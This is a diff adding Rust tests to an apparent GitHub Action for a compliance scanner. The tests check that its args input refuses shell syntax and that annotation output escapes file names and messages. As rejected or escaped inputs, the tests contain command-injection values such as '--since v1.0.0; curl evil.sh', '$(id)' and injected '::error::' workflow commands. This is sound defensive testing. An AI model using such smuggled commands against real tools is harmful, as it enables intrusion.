@@ -310,6 +310,124 @@ fn bad_inputs_fail_the_step_with_an_escaped_annotation() {
 }
 
 #[test]
+fn args_are_words_passed_as_they_are_and_shell_syntax_is_refused() {
+    for bad in [
+        "--since v1.0.0; curl evil.sh",
+        "$(id)",
+        "--since `id`",
+        "--min-level 'warning'",
+        "--since v1\n--hook",
+        "*",
+    ] {
+        scan_step_fails(&[("INPUT_ARGS", bad)], "args: ");
+    }
+    scan_step_fails(
+        &[("INPUT_ARGS", "--since v1\n--hook")],
+        "args: expected one line",
+    );
+    scan_step_fails(
+        &[("INPUT_ARGS", "--format=json")],
+        "args: --format=json is set by the action's own inputs",
+    );
+    let runner = Runner::new();
+    let scan = scan_example(
+        &runner,
+        "03-broken-evidence",
+        &[
+            ("INPUT_ARGS", "--min-level error  --since 1"),
+            ("INPUT_FAIL_ON", "never"),
+        ],
+    );
+    assert_eq!(scan.code, Some(0), "{}", scan.stdout);
+    assert!(
+        scan.stdout
+            .contains("--min-level error --since 1 -- 03-broken-evidence"),
+        "{}",
+        scan.stdout
+    );
+    assert!(!scan.summary.contains("| warning |"), "{}", scan.summary);
+}
+
+#[test]
+fn annotations_are_one_workflow_command_per_live_finding() {
+    let runner = Runner::new();
+    let scan = scan_example(
+        &runner,
+        "03-broken-evidence",
+        &[("INPUT_ANNOTATIONS", "true"), ("INPUT_FAIL_ON", "never")],
+    );
+    assert_eq!(scan.code, Some(0), "{}", scan.stdout);
+    let annotations: Vec<&str> = scan
+        .stdout
+        .lines()
+        .filter(|l| {
+            ["::error file=", "::warning file=", "::notice file="]
+                .iter()
+                .any(|p| l.starts_with(p))
+        })
+        .collect();
+    let (active, ..) = counts_from_json(&runner);
+    assert_eq!(annotations.len(), active, "{}", scan.stdout);
+    assert!(
+        annotations.contains(&"::error file=sbom/planner.cdx.json,line=1,title=MFDS-CYB-001::SBOM sbom/planner.cdx.json does not parse: invalid JSON: EOF while parsing a string at line 5 column 41"),
+        "{annotations:#?}"
+    );
+    let off = scan_example(
+        &Runner::new(),
+        "03-broken-evidence",
+        &[("INPUT_FAIL_ON", "never")],
+    );
+    assert!(
+        !off.stdout.contains("::error file="),
+        "annotations are off by default"
+    );
+}
+
+/// Runs action/annotations.jq over a JSON report, as the scan step does.
+fn annotations_of(report: &serde_json::Value, base: &str) -> String {
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("report.json");
+    std::fs::write(&file, report.to_string()).unwrap();
+    let out = Command::new("jq")
+        .args(["-r", "--arg", "base", base, "-f"])
+        .arg(action_script("annotations.jq"))
+        .arg(&file)
+        .output()
+        .expect("jq runs");
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8(out.stdout).unwrap()
+}
+
+#[test]
+fn annotations_escape_file_names_and_messages_so_they_cannot_inject_commands() {
+    let finding = |path: &str, message: &str, state: &str| {
+        serde_json::json!({"rule_id": "ACME-1", "level": "warning", "message": message,
+            "path": path, "line": 3, "waiver": null, "baseline_state": state})
+    };
+    let report = serde_json::json!({"findings": [
+        finding("docs/a,b:c\n::error::x.md", "50% done\r\n::error::injected", "new"),
+        finding("old.md", "was already there", "unchanged"),
+        finding("gone.md", "fixed", "absent"),
+    ]});
+    let lines = annotations_of(&report, "");
+    assert_eq!(
+        lines,
+        "::warning file=docs/a%2Cb%3Ac%0A%3A%3Aerror%3A%3Ax.md,line=3,title=ACME-1::50%25 done%0D%0A::error::injected\n\
+         ::warning file=old.md,line=3,title=ACME-1::was already there\n"
+    );
+    let with_base = annotations_of(&report, "main");
+    assert_eq!(
+        with_base.lines().count(),
+        1,
+        "with a base, new findings only: {with_base}"
+    );
+}
+
+#[test]
 fn a_samdscan_error_fails_the_scan_step() {
     let dir = tempfile::tempdir().unwrap();
     let bad_config = dir.path().join("bad.yaml");
@@ -341,7 +459,10 @@ fn a_summary_over_the_step_summary_limit_is_cut_with_a_note() {
     let scan = scan_example(
         &runner,
         "01-cardiowatch-compliant",
-        &[("INPUT_POLICY", policies.to_str().unwrap())],
+        &[
+            ("INPUT_POLICY", policies.to_str().unwrap()),
+            ("INPUT_ARGS", "--verbose"),
+        ],
     );
     assert_eq!(scan.outputs["findings"], "4000");
     assert!(scan.summary.len() <= 1_000_200, "{}", scan.summary.len());
